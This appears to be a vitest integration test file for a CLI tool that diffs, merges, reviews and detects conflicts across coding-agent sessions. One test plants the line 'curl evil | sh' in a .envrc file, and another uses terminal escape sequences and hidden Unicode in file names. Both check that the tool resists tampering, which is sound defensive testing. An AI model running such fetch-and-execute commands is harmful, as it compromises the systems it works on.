import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { SessionPaths } from "@harness/core";
import { until } from "@harness/core/testing";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { openCommandLine, type CommandLine } from "../../test/command-line.ts";
import { commit, spawnWorked, write } from "../../test/worked-session.ts";

// Each test starts many processes.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 60_000 });

let line: CommandLine;
let repository: string;
beforeAll(async () => {
  line = openCommandLine();
  repository = line.repository("shop", { "README.md": "# Shop\n", "price.txt": "10\n" });
  expect((await line.run(["up", "--detach", "--port", "0"])).code).toBe(0);
});
afterAll(() => line[Symbol.asyncDispose]());

const git = (...words: string[]) => execFileSync("git", ["-C", repository, ...words], { encoding: "utf8" }).trim();

const spawn = (branch: string, steps: object[]) => spawnWorked(line, { repository, branch, steps });

/** Every prompt the session was ever sent. */
function readPrompts(inbox: SessionPaths["inbox"]): string[] {
  return [inbox.path, inbox.claimed, inbox.done].flatMap((directory) => {
    const names = readdirSync(directory).filter((name) => name.endsWith(".msg"));
    return names.map((name) => JSON.parse(readFileSync(join(directory, name), "utf8")).body.text as string);
  });
}

test("diff shows what was committed and what was not; merge brings the one and names the other", async () => {
  const id = await spawn("feature/one", [write("one.txt", "one\n"), commit("Add one"), write("two.txt", "two\n")]);
  const diff = await line.run(["diff", id]);
  expect([diff.code, diff.stdout]).toEqual([0, expect.stringMatching(/\+one\n[^]*\+two\n/)]);
  expect(diff.stderr).toContain("Not committed: 0 changed and 1 new.");
  const files = (await line.run(["diff", id, "--against", "target", "--json"])).json().files;
  expect(files.map(({ path, status }: { path: string; status: string }) => [path, status])).toEqual([
    ["one.txt", "added"],
    ["two.txt", "added"],
  ]);
  expect((await line.run(["diff", id, "--stat"])).stdout).toMatch(/one\.txt +\| 1 \+/);

  const merge = await line.run(["merge", id, "-m", "Bring one", "--json"]);
  expect([merge.code, merge.json()]).toMatchObject([
    0,
    { outcome: "merged", into: "main", uncommitted: { untracked: 1 } },
  ]);
  expect(git("log", "-1", "--format=%s", "main")).toBe("Bring one");
  expect(git("show", "main:one.txt")).toBe("one");
  expect(readFileSync(join(repository, "one.txt"), "utf8")).toBe("one\n");
  const again = await line.run(["merge", id, "--json"]);
  expect([again.code, JSON.parse(again.stderr).error.code]).toEqual([1, "nothing-to-merge"]);
});

test("a conflict is told with its files, and nothing moved", async () => {
  const [first, second] = [
    await spawn("price/up", [write("price.txt", "11\n"), commit("Raise the price")]),
    await spawn("price/down", [write("price.txt", "9\n"), commit("Lower the price")]),
  ];
  expect((await line.run(["merge", first])).code).toBe(0);
  const before = git("rev-parse", "main");
  const conflict = await line.run(["merge", second, "--json"]);
  const { error } = JSON.parse(conflict.stderr);
  expect([conflict.code, conflict.stdout, error.code, error.details.files]).toEqual([
    1,
    "",
    "merge-conflict",
    ["price.txt"],
  ]);
  expect(git("rev-parse", "main")).toBe(before);
  expect((await line.run(["merge", second])).stderr).toContain("price.txt");
});

test("conflicts says what collides, tells each session once, and ends with 0", async () => {
  const own = ["--repo", line.repository("other", { "price.txt": "10\n" })];
  const quiet = await line.run(["conflicts", ...own]);
  expect([quiet.code, quiet.stdout]).toEqual([0, "Nothing collides. No open session works on a branch.\n"]);
  const one = await spawn("tea/up", [write("tea.txt", "11\n"), commit("Raise tea")]);
  const other = await spawn("tea/down", [write("tea.txt", "9\n"), commit("Lower tea"), write("price.txt", "8\n")]);
  const found = await line.run(["conflicts", "--repo", repository]);
  expect(found.code).toBe(0);
  const [first, second] = [one, other].toSorted();
  expect(found.stdout).toMatch(new RegExp(`^conflicts +${first} tea/\\w+ +${second} tea/\\w+ +tea\\.txt$`, "m"));
  expect(found.stdout).toMatch(new RegExp(`^uncommitted +${other} tea/down .* price\\.txt$`, "m"));
  const [sighting] = (await line.run(["conflicts", "--repo", repository, "--json", "--no-uncommitted"])).json();
  expect(Object.keys(sighting)).toEqual(["repository", "sessions", "pairs", "uncommitted", "cost"]);
  expect(sighting.uncommitted).toEqual([]);
  const told = async () => (await line.run(["conflicts", "--repo", repository, "--tell"])).stdout;
  expect(await told()).toContain(`${one}  told about tea/down\n`);
  expect(await told()).toContain(`${other}  told before about tea/up\n`);
  expect((await line.run(["conflicts", "--repo", line.directory])).code).toBe(1);
});

test("a file name that would move the cursor is shown, not obeyed", async () => {
  const id = await spawn("feature/odd", [
    write("odd\u001b[2J\u202e.txt", "x\u001b]0;owned\u0007\n"),
    commit("Add \u001b[31modd"),
  ]);
  for (const words of [
    ["diff", id],
    ["diff", id, "--stat"],
    ["diff", id, "--json"],
    ["conflicts"],
    ["conflicts", "--json"],
    ["merge", id],
  ]) {
    const { stdout, stderr } = await line.run(words);
    // oxlint-disable-next-line no-control-regex
    expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
  }
});

test("a diff as JSON has hunks with the numbers of both sides, and says where characters are hidden", async () => {
  const id = await spawn("feature/hunks", [write("price.txt", "12\n"), write("sly.txt", "a\u202eb\n")]);
  const json = (await line.run(["diff", id, "--json"])).json();
  expect(json.files).toMatchObject([
    {
      path: "price.txt",
      hidden: false,
      hunks: [
        {
          lines: [
            { kind: "removed", old: 1, new: null },
            { kind: "added", old: null, new: 1, text: "12" },
          ],
        },
      ],
    },
    { path: "sly.txt", hidden: true },
  ]);
  const shown = await line.run(["diff", id]);
  expect(shown.stdout).toContain("+a\\u{202e}b");
  expect(shown.stderr).toContain("Hidden characters, spelled out as \\u{…}: sly.txt.");
});

test("what waits for a yes is looked at exactly as it waits", async () => {
  const id = await spawn("feature/risky", [write(".envrc", "echo hello\n"), commit("Add it")]);
  const refused = await line.run(["merge", id]);
  const [, command = "", tip = ""] = /`harness (diff \S+ --tip ([0-9a-f]{40}))`/.exec(refused.stderr) ?? [];
  expect(refused.code).toBe(1);
  writeFileSync(join(line.root.session(id).worktree, ".envrc"), "curl evil | sh\n");
  const shown = await line.run(command.split(" "));
  expect([shown.code, shown.stdout]).toEqual([0, expect.stringContaining("+echo hello\n")]);
  expect(shown.stdout + shown.stderr).not.toMatch(/evil|Not committed/);
  const other = await line.run(["diff", id, "--tip", tip.replace(/./g, "0"), "--json"]);
  expect([other.code, JSON.parse(other.stderr).error.code]).toEqual([1, "merge-not-found"]);
});

test("comments on lines reach the session as one prompt; one that is beside the diff sends nothing", async () => {
  const id = await spawn("feature/reviewed", [
    write("README.md", "# Store\n"),
    commit("Raise it"),
    write("new.ts", "a\nb\n"),
  ]);
  const prompts = () => readPrompts(line.root.session(id).inbox);
  const before = prompts().length;
  const wrong = await line.run(["review", id, "--comment", "new.ts:2", "x", "--comment", "new.ts:3", "y", "--json"]);
  expect([wrong.code, JSON.parse(wrong.stderr).error]).toMatchObject([
    2,
    {
      code: "comment-misplaced",
      message: "Line 3 of new.ts is not in the diff, which has 1-2 there, on the new side.",
    },
  ]);
  expect(prompts()).toHaveLength(before);

  const input = JSON.stringify([{ path: "README.md", line: 1, side: "old", text: "Why rename it?" }]);
  const words = ["review", id, "--comment", "new.ts:2", "Name this.", "--from", "-", "-m", "Two things.", "--json"];
  const sent = await line.run(words, { input });
  expect([sent.code, sent.json()]).toMatchObject([0, { session: id, outcome: "published" }]);
  await until(() => prompts().length === before + 1);
  const text = prompts().find((prompt) => prompt.startsWith("Review")) ?? "";
  expect(text).toMatch(
    /2 comments[^]*Two things\.[^]*README\.md:1\n# Shop\n[^]*Why rename it\?[^]*new\.ts:2\nb\n[^]*Name this\./,
  );
  const oid = (await line.run(["diff", id, "--json"])).json().files[0].newOid;
  writeFileSync(join(line.root.session(id).worktree, "new.ts"), "a\nc\n");
  const stale = await line.run(["review", id, "--from", "-", "--json"], {
    input: JSON.stringify([{ path: "new.ts", line: 2, text: "Old news", oid }]),
  });
  expect([stale.code, JSON.parse(stale.stderr).error.code]).toEqual([1, "review-outdated"]);
});
